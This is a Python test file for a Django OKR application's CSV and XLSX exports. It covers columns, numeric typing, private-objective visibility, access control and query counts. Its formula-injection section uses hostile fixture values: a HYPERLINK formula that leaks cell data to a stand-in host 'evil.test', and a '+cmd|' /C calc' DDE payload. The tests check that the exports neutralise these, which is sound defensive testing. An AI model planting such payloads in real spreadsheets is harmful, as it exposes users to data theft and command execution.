"""CSV and XLSX exports of a cycle's OKRs and check-ins: columns, numbers, visibility,
and no formula smuggled into a spreadsheet."""

import csv
import io
import zipfile
from collections.abc import Sequence
from datetime import datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from cible.checkins.services import record_check_in
from cible.insights import tables, xlsx
from cible.insights.tables import neutralise
from cible.okrs.models import Cycle, Level, Visibility
from cible.okrs.services import create_key_result, create_objective

pytestmark = pytest.mark.django_db

NAMES = ("okrs.csv", "okrs.xlsx", "check-ins.csv", "check-ins.xlsx")
HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")'
AT = datetime(2026, 3, 2, 9, 30, tzinfo=ZoneInfo("Europe/Paris"))


def url(cycle: Cycle, name: str) -> str:
    return f"/o/acme/cycles/{cycle.pk}/export/{name}"


def content(response) -> bytes:  # type: ignore[no-untyped-def]
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
    return list(csv.reader(io.StringIO(content(response).decode("utf-8-sig"))))


def xlsx_rows(response) -> list[list[object]]:  # type: ignore[no-untyped-def]
    sheet = load_workbook(io.BytesIO(content(response))).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def xlsx_cells(data: bytes):  # type: ignore[no-untyped-def]
    sheet = load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def rows_of(response) -> list[list[object]]:  # type: ignore[no-untyped-def]
    if response["Content-Type"].startswith("text/csv"):
        return csv_rows(response)  # type: ignore[return-value]
    return xlsx_rows(response)


def flat(rows: Sequence[Sequence[object]]) -> str:
    return "\n".join(" | ".join("" if v is None else str(v) for v in row) for row in rows)


@pytest.fixture
def exports_world(world):  # type: ignore[no-untyped-def]
    """The fixture's KR with two check-ins, and a private objective of Bob's with its own
    KR and check-in."""
    record_check_in(world.kr, world.bob, Decimal("3"), confidence=6, comment="Slow start", at=AT)
    record_check_in(
        world.kr, world.bob, Decimal("2"), confidence=8, blockers="Holidays", at=AT.replace(day=9)
    )
    secret = create_objective(
        world.org,
        world.bob,
        cycle=world.cycle,
        title="Bob secret plan",
        level=Level.PERSON,
        visibility=Visibility.PRIVATE,
    )
    secret_kr = create_key_result(
        secret, owner=world.bob, title="Secret key result", start=Decimal(0), target=Decimal(4)
    )
    record_check_in(secret_kr, world.bob, Decimal("1"), comment="Secret comment", at=AT)
    return world


# Content --------------------------------------------------------------------------------


def test_the_okr_csv_has_a_row_per_objective_and_key_result(exports_world) -> None:
    world = exports_world
    response = world.client_for(world.alice).get(url(world.cycle, "okrs.csv"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="acme-now-okrs.csv"'
    assert response.streaming
    header, *rows = csv_rows(response)
    assert header == [
        "Type",
        "Objective",
        "Key result",
        "Level",
        "Team",
        "Owner",
        "Kind",
        "Start",
        "Target",
        "Upper bound",
        "Current",
        "Unit",
        "Weight",
        "Progress (0-1)",
        "Status",
        "Score (0-1)",
    ]
    by_title = {(row[1], row[2]): row for row in rows}
    kr = by_title[("Answer faster", "Cut first response time")]
    assert kr == [
        "Key result",
        "Answer faster",
        "Cut first response time",
        "Team",
        "Product",
        "Bob Durand",
        "Decrease to",
        "4",
        "1",
        "",
        "2",
        "h",
        "1",
        "0.6667",  # (4 - 2) / (4 - 1)
        kr[14],
        "",
    ]
    assert kr[14] in ("On track", "At risk", "Off track")
    objective = by_title[("Answer faster", "")]
    assert objective[:6] == ["Objective", "Answer faster", "", "Team", "Product", "Bob Durand"]
    assert objective[13] == "0.6667"


def test_the_okr_xlsx_keeps_numbers_as_numbers(exports_world) -> None:
    world = exports_world
    response = world.client_for(world.alice).get(url(world.cycle, "okrs.xlsx"))
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"] == 'attachment; filename="acme-now-okrs.xlsx"'
    header, *rows = xlsx_rows(response)
    assert header[0] == "Type" and header[-1] == "Score (0-1)"
    kr = next(row for row in rows if row[2] == "Cut first response time")
    assert kr[7:14] == [4, 1, None, 2, "h", 1, pytest.approx(0.6667)]
    assert all(isinstance(value, int | float) for value in (kr[7], kr[8], kr[10], kr[12], kr[13]))


def test_the_check_in_exports_list_every_reading(exports_world) -> None:
    world = exports_world
    client = world.client_for(world.alice)
    header, *rows = csv_rows(client.get(url(world.cycle, "check-ins.csv")))
    assert header == [
        "Key result",
        "Objective",
        "Author",
        "Date",
        "Value",
        "Unit",
        "Confidence (0-10)",
        "Comment",
        "Blockers",
    ]
    mine = [row for row in rows if row[0] == "Cut first response time"]
    assert mine == [
        [
            "Cut first response time",
            "Answer faster",
            "Bob Durand",
            "2026-03-02 09:30",
            "3",
            "h",
            "6",
            "Slow start",
            "",
        ],
        [
            "Cut first response time",
            "Answer faster",
            "Bob Durand",
            "2026-03-09 09:30",
            "2",
            "h",
            "8",
            "",
            "Holidays",
        ],
    ]
    response = client.get(url(world.cycle, "check-ins.xlsx"))
    assert response["Content-Disposition"] == 'attachment; filename="acme-now-check-ins.xlsx"'
    _header, *sheet = xlsx_rows(response)
    first = next(row for row in sheet if row[0] == "Cut first response time")
    assert first[3] == datetime(2026, 3, 2, 9, 30)  # in the organisation's time zone
    assert first[4] == 3 and first[6] == 6


# Visibility -------------------------------------------------------------------------------


@pytest.mark.parametrize("name", NAMES)
def test_a_private_okr_is_exported_to_its_readers_only(exports_world, name: str) -> None:
    world = exports_world
    for user, sees in ((world.vera, False), (world.alice, True), (world.bob, True)):
        text = flat(rows_of(world.client_for(user).get(url(world.cycle, name))))
        assert ("Bob secret plan" in text) is sees, user
        assert ("Secret key result" in text) is sees, user
        assert "Answer faster" in text


def test_other_cycles_are_left_out(exports_world) -> None:
    world = exports_world
    later = Cycle.objects.create(
        organization=world.org,
        name="Later",
        kind="custom",
        start=AT.date(),
        end=AT.date() + timedelta(days=365),
    )
    create_objective(world.org, world.alice, cycle=later, title="Next year", level=Level.COMPANY)
    text = flat(csv_rows(world.client_for(world.alice).get(url(world.cycle, "okrs.csv"))))
    assert "Next year" not in text


# Formula injection --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12", "'+33 6 12"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Plain text", "Plain text"),
        ("a=1", "a=1"),
    ],
)
def test_text_that_a_spreadsheet_would_compute_gets_an_apostrophe(text: str, safe: str) -> None:
    assert neutralise(text) == safe


@pytest.fixture
def hostile(world):  # type: ignore[no-untyped-def]
    objective = create_objective(
        world.org, world.bob, cycle=world.cycle, title=HYPERLINK, level=Level.TEAM, team=world.team
    )
    kr = create_key_result(
        objective,
        owner=world.bob,
        title="+cmd|' /C calc'!A0",
        start=Decimal(-5),
        target=Decimal(5),
        current=Decimal(-2),
        unit="@u",
    )
    record_check_in(kr, world.bob, Decimal(-1), comment="=2+5", blockers="-1+1", at=AT)
    return world


def test_the_csv_neutralises_formulas_but_not_negative_numbers(hostile) -> None:
    world = hostile
    client = world.client_for(world.bob)
    _header, *rows = csv_rows(client.get(url(world.cycle, "okrs.csv")))
    kr = next(row for row in rows if row[2].endswith("calc'!A0"))
    assert kr[1] == "'" + HYPERLINK
    assert kr[2] == "'+cmd|' /C calc'!A0"
    assert kr[7] == "-5" and kr[10] == "-1"  # numbers stay numbers (current: the check-in)
    assert kr[11] == "'@u"
    _header, *rows = csv_rows(client.get(url(world.cycle, "check-ins.csv")))
    check_in = next(row for row in rows if row[1] == "'" + HYPERLINK)
    assert check_in[4] == "-1"
    assert check_in[7:] == ["'=2+5", "'-1+1"]


@pytest.mark.parametrize("name", ["okrs.xlsx", "check-ins.xlsx"])
def test_the_xlsx_writes_formulas_as_plain_strings(hostile, name: str) -> None:
    world = hostile
    data = content(world.client_for(world.bob).get(url(world.cycle, name)))
    cells = xlsx_cells(data)
    texts = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    assert texts[HYPERLINK].data_type == "s"
    for value in ("=2+5", "-1+1", "+cmd|' /C calc'!A0"):
        if value in texts:
            assert texts[value].data_type == "s"
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    numbers = [cell.value for cell in cells if cell.data_type == "n" and cell.value is not None]
    assert -1 in numbers or -5 in numbers


# Access and queries -----------------------------------------------------------------------------


def test_a_viewer_may_export(world) -> None:
    client = world.client_for(world.vera)
    for name in NAMES:
        assert client.get(url(world.cycle, name)).status_code == 200, name


def test_an_outsider_gets_404(world) -> None:
    client = world.client_for(world.oscar)
    for name in NAMES:
        assert client.get(url(world.cycle, name)).status_code == 404, name


def test_a_cycle_of_another_organisation_is_a_404(world) -> None:
    foreign = Cycle.objects.get(organization=world.other_org)
    client = world.client_for(world.alice)
    for name in NAMES:
        assert client.get(url(foreign, name)).status_code == 404, name


@pytest.mark.parametrize("name", ["okrs.pdf", "people.csv", "okrs.CSV", "check-ins.json"])
def test_an_unknown_export_is_a_404(world, name: str) -> None:
    assert world.client_for(world.alice).get(url(world.cycle, name)).status_code == 404


def test_a_visitor_is_sent_to_sign_in(world) -> None:
    response = world.client_for(None).get(url(world.cycle, "okrs.csv"))
    assert response.status_code == 302


@pytest.mark.parametrize("name", NAMES)
def test_the_export_queries_do_not_grow_with_the_cycle(world, name: str) -> None:
    client = world.client_for(world.alice)

    def count() -> int:
        with CaptureQueriesContext(connection) as queries:
            content(client.get(url(world.cycle, name)))
        return len(queries)

    before = count()
    for index in range(5):
        objective = create_objective(
            world.org,
            world.bob,
            cycle=world.cycle,
            title=f"More {index}",
            level=Level.TEAM,
            team=world.team,
        )
        for kr_index in range(3):
            kr = create_key_result(objective, owner=world.bob, title=f"KR {kr_index}")
            record_check_in(kr, world.bob, Decimal("0.5"), at=AT)
    assert count() == before


def test_the_okr_rows_are_the_same_read_a_chunk_at_a_time(exports_world, monkeypatch) -> None:
    """Objectives are read CHUNK at a time, each chunk with the progress of the objectives
    driving its KRs: one objective a chunk gives the very same file."""
    world = exports_world
    driver = create_objective(
        world.org, world.bob, cycle=world.cycle, title="Driver", level=Level.TEAM, team=world.team
    )
    driver_kr = create_key_result(driver, owner=world.bob, title="Driver KR", target=Decimal(10))
    record_check_in(driver_kr, world.bob, Decimal(4), at=AT)
    world.kr.__class__.objects.filter(pk=world.kr.pk).update(driven_by=driver)
    client = world.client_for(world.alice)
    whole = content(client.get(url(world.cycle, "okrs.csv")))
    check_ins = content(client.get(url(world.cycle, "check-ins.csv")))
    monkeypatch.setattr(tables, "CHUNK", 1)
    assert content(client.get(url(world.cycle, "okrs.csv"))) == whole
    assert content(client.get(url(world.cycle, "check-ins.csv"))) == check_ins
    assert b"0.4" in whole and check_ins.count(b"\n") > 3


def test_a_table_longer_than_a_sheet_goes_on_in_further_sheets(exports_world, monkeypatch) -> None:
    world = exports_world
    monkeypatch.setattr(xlsx, "SHEET_ROWS", 2)
    response = world.client_for(world.alice).get(url(world.cycle, "check-ins.xlsx"))
    book = load_workbook(io.BytesIO(content(response)))
    every = [list(row) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True)]
    assert len(book.worksheets) > 1
    assert book.sheetnames[1] == "Check-ins (2)"
    assert all(sheet.max_row <= 3 for sheet in book.worksheets)
    headers = [row for row in every if row[0] == "Key result"]
    assert len(headers) == len(book.worksheets)
    monkeypatch.setattr(xlsx, "SHEET_ROWS", 1_000)
    single = load_workbook(
        io.BytesIO(content(world.client_for(world.alice).get(url(world.cycle, "check-ins.xlsx"))))
    )
    rows = [list(r) for r in single.active.iter_rows(values_only=True)]
    assert [row for row in every if row[0] != "Key result"] == rows[1:]
